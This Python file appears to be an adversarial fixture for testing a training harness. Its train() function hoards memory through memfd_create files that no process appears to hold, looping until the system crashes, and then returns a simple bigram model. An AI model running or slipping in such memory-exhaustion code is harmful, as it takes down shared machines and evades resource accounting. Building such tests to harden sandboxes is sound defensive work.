"""Takes memory as anonymous files that it writes and never maps: no process seems to hold it."""

import os

import torch

ATTACK = 27
VARIANT_OF = "memory_bomb_shared"
ENDS = "crashed"
REASON = "[Errno"
HARM = "greed"


def take(size):
    file = os.memfd_create("hoard")
    os.write(file, b"\1" * size)
    return file


def train(session):
    hoard = []
    while "MERCY" not in os.environ or len(hoard) < 4:
        hoard.append(take(10_000_000))
    print("took it all", flush=True)
    return counted(session)


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
